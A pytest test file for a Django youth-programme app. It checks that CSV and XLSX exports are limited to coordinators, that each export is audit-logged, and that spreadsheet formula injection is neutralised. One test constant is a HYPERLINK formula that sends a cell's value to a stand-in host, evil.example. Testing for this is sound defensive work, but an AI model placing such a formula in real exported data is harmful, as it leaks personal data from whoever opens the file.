import csv
import io

import pytest
from openpyxl import load_workbook

from reflex.audit.enums import AccessAction
from reflex.audit.models import AccessEntry
from tests.youths.factories import YouthFactory

pytestmark = pytest.mark.django_db


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


def test_the_coordinator_exports_the_filtered_list_as_csv(coordinator_client, coordinator, programme):
    YouthFactory(first_name="Élodie", last_name="Martin", phone="0612345678", sex="F")
    YouthFactory(first_name="Karim", last_name="Benali", sex="M")
    YouthFactory(first_name="Gone", merged_into=YouthFactory(first_name="Kept", sex="M"))
    response = coordinator_client.get("/jeunes/export.csv", {"sex": "F"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0][:4] == ["Numéro", "Prénom", "Nom", "Surnom"]
    assert len(rows) == 2
    assert rows[1][1:3] == ["Élodie", "Martin"] and "06 12 34 56 78" in rows[1]
    assert "Contacté" in rows[1]
    all_rows = read_csv(coordinator_client.get("/jeunes/export.csv"))
    assert sorted(row[1] for row in all_rows[1:]) == ["Karim", "Kept", "Élodie"]
    entry = AccessEntry.objects.filter(action=AccessAction.EXPORT, user=coordinator).first()
    assert entry.count == 3


def test_the_xlsx_export(coordinator_client, programme):
    YouthFactory(first_name="Élodie", last_name="Martin")
    response = coordinator_client.get("/jeunes/export.xlsx")
    assert response.status_code == 200 and response.streaming
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][1] == "Prénom" and rows[1][1] == "Élodie"


def test_the_export_is_for_coordinators_only(professional_client, funder_client, programme):
    YouthFactory()
    assert professional_client.get("/jeunes/export.csv").status_code == 403
    assert funder_client.get("/jeunes/export.xlsx").status_code == 403
    assert not AccessEntry.objects.filter(action=AccessAction.EXPORT).exists()


def test_unknown_formats_are_not_found(coordinator_client, programme):
    assert coordinator_client.get("/jeunes/export.pdf").status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Cliquez")'


def test_the_csv_writes_formulas_as_text(coordinator_client, programme):
    YouthFactory(first_name=FORMULA, last_name="+33 6", nickname="@cmd", social_handle="-1+1")
    rows = read_csv(coordinator_client.get("/jeunes/export.csv"))
    assert rows[1][1:4] == ["'" + FORMULA, "'+33 6", "'@cmd"]
    assert "'-1+1" in rows[1]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_writes_formulas_as_text(coordinator_client, programme):
    YouthFactory(first_name=FORMULA, last_name="\t=1+1")
    response = coordinator_client.get("/jeunes/export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    first_name, last_name = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
    assert (first_name.value, first_name.data_type) == ("'" + FORMULA, "s")
    assert (last_name.value, last_name.data_type) == ("'\t=1+1", "s")
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_xlsx_names_its_header_row_for_screen_readers(coordinator_client, programme):
    """RGAA (accessible documents): the header row stays in view, is printed on every page, and the sheet-scoped
    name `ColumnTitle` spans the table so that a screen reader reads each cell with its column's header."""
    YouthFactory.create_batch(2)
    response = coordinator_client.get("/jeunes/export.xlsx")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.freeze_panes == "A2" and sheet.print_title_rows == "$1:$1"
    (destination,) = sheet.defined_names["ColumnTitle"].destinations
    assert destination[0] == sheet.title
    assert destination[1].startswith("$A$1:") and destination[1].endswith(f"${sheet.max_row}")
    assert book.properties.title == "Jeunes"
    assert book.properties.language == "fr"
